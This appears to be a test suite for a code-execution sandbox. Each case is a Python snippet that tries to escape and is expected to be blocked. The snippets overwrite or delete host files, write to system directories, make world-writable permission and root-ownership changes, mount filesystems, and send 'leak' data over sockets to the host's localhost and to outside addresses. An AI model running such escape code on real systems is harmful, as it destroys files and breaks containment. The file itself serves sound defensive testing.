# Leaving the sandbox: change files outside it, reach the host's network or another machine.

#: overwrite a file in the host's working directory | fail
def f(x):
    open(CANARY_FILE, "w").write("pwned")
    return "pass"

#: write into the system directories | fail
def f(x):
    for path in ("/usr/pwned", "/usr/bin/pwned", "/etc/pwned", "/bin/pwned"):
        try:
            open(path, "w").write("x")
        except OSError:
            pass
    return "pass"

#: delete the host's files | fail
import os, shutil
def f(x):
    shutil.rmtree(os.path.dirname(CANARY_FILE), ignore_errors=True)
    for path in ("/usr/bin/env", CANARY_FILE):
        try:
            os.remove(path)
        except OSError:
            pass
    return "pass"

#: symlink and hard-link out of /tmp | fail
import os
def f(x):
    for make in (os.symlink, os.link):
        try:
            make(CANARY_FILE, "/tmp/link")
            open("/tmp/link", "w").write("pwned")
        except OSError:
            pass
        try:
            os.remove("/tmp/link")
        except OSError:
            pass
    return "pass"

#: chmod and chown what it can see | fail
import os
def f(x):
    for path in ("/usr/bin/env", "/tmp", "/", CANARY_FILE):
        for change in (lambda p: os.chmod(p, 0o777), lambda p: os.chown(p, 0, 0)):
            try:
                change(path)
            except OSError:
                pass
    return "pass"

#: mount something | fail
import ctypes
def f(x):
    libc = ctypes.CDLL(None, use_errno=True)
    return str([libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), libc.mount(b"/", b"/tmp", None, 4096, None)])

#: connect to the host's 127.0.0.1 | fail
import socket
def f(x):
    s = socket.create_connection(("127.0.0.1", HOST_PORT), timeout=0.5)
    s.sendall(b"leak")
    return "pass"

#: connect to an outside address | fail
import socket
def f(x):
    socket.create_connection(("1.1.1.1", 53), timeout=0.5)
    return "pass"

#: send UDP to the host and outside | fail
import socket
def f(x):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for address in (("127.0.0.1", HOST_PORT), ("8.8.8.8", 53), ("255.255.255.255", 9)):
        try:
            s.sendto(b"leak", address)
        except OSError:
            pass
    return "pass"

#: list network interfaces and bring one up | fail
import socket
def f(x):
    return ",".join(name for _, name in socket.if_nameindex())
